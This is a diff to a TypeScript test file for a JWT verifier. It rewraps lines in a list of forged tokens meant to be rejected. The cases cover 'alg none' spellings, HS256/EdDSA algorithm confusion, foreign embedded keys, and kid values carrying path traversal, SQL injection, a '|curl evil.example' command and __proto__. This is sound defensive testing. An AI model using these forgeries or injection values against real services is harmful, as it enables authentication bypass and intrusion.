@@ -62,7 +62,10 @@ const CLAIMS = {
 };
 
 const encoded = (value: unknown) => Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
-const hmac = (secret: string | Uint8Array, hash = "sha256") => (input: string) => createHmac(hash, secret).update(input).digest("base64url");
+const hmac =
+  (secret: string | Uint8Array, hash = "sha256") =>
+  (input: string) =>
+    createHmac(hash, secret).update(input).digest("base64url");
 const eddsa = (key: KeyObject) => (input: string) => signEd25519(null, Buffer.from(input), key).toString("base64url");
 
 function token(header: object | string, payload: object | string, sign: (input: string) => string): string {
@@ -106,12 +109,24 @@ function forged(): [string, string, string][] {
   return [
     ["alg none", "it is not signed", withHeader({ alg: "none", kid: NEW.kid }, CLAIMS, () => "")],
     ["alg None", "it is not signed, in another spelling", withHeader({ alg: "None", kid: NEW.kid }, CLAIMS, () => "")],
-    ["alg nOnE with the signature of a good token", "the header says how it was signed, and is not to be believed", withHeader({ alg: "nOnE", kid: NEW.kid }, CLAIMS, () => signature)],
+    [
+      "alg nOnE with the signature of a good token",
+      "the header says how it was signed, and is not to be believed",
+      withHeader({ alg: "nOnE", kid: NEW.kid }, CLAIMS, () => signature),
+    ],
     ["alg HS384", "the algorithm is HS256 and nothing else", withHeader({ alg: "HS384", kid: NEW.kid }, CLAIMS, hmac(NEW.secret, "sha384"))],
     ["alg HS512", "the algorithm is HS256 and nothing else", withHeader({ alg: "HS512", kid: NEW.kid }, CLAIMS, hmac(NEW.secret, "sha512"))],
-    ["HS256 with the EdDSA key's public PEM as secret", "a public key is no secret", withHeader({ alg: "HS256", kid: ED_KID }, CLAIMS, hmac(publicKey.export({ format: "pem", type: "spki" }).toString()))],
+    [
+      "HS256 with the EdDSA key's public PEM as secret",
+      "a public key is no secret",
+      withHeader({ alg: "HS256", kid: ED_KID }, CLAIMS, hmac(publicKey.export({ format: "pem", type: "spki" }).toString())),
+    ],
     ["HS256 with the EdDSA key's public bytes as secret", "a public key is no secret", withHeader({ alg: "HS256", kid: ED_KID }, CLAIMS, hmac(raw))],
-    ["HS256 with the EdDSA key's public bytes, named as the secret", "a public key is no secret", withHeader({ alg: "HS256", kid: NEW.kid }, CLAIMS, hmac(raw))],
+    [
+      "HS256 with the EdDSA key's public bytes, named as the secret",
+      "a public key is no secret",
+      withHeader({ alg: "HS256", kid: NEW.kid }, CLAIMS, hmac(raw)),
+    ],
     ["EdDSA by another key", "the key is not one of the workspace's", ed({}, {}, FOREIGN)],
     ["EdDSA named as the secret", "the key decides the algorithm", ed({}, { kid: NEW.kid })],
     ["EdDSA with its own key in the header", "a key that the token brings along proves nothing", ed({}, { jwk: publicJwk(FOREIGN) }, FOREIGN)],
@@ -120,7 +135,11 @@ function forged(): [string, string, string][] {
     ["kid is a path", "a kid names a key and opens no file", token({ ...kidHeader, kid: "../../../../dev/null", typ: "JWT" }, CLAIMS, hmac(""))],
     ["kid is SQL", "a kid names a key and is no query", token({ ...kidHeader, kid: "x' UNION SELECT 'secret' --", typ: "JWT" }, CLAIMS, hmac("secret"))],
     ["kid is a command", "a kid names a key and is run by nobody", token({ ...kidHeader, kid: "|curl evil.example", typ: "JWT" }, CLAIMS, hmac("evil"))],
-    ["kid is __proto__", "a kid that is no key of a map must find nothing there", token(`{"alg":"HS256","kid":"__proto__","typ":"JWT"}`, CLAIMS, hmac("[object Object]"))],
+    [
+      "kid is __proto__",
+      "a kid that is no key of a map must find nothing there",
+      token(`{"alg":"HS256","kid":"__proto__","typ":"JWT"}`, CLAIMS, hmac("[object Object]")),
+    ],
     ["secret of sandbox", "prod and sandbox have secrets of their own", hs256({ env: "sandbox" }, {}, SANDBOX)],
     ["env sandbox, secret of prod", "the environment is not the expected one", hs256({ env: "sandbox" })],
     ["another purpose", "a token that was made for something else", hs256({ purpose: "cancel_link" })],
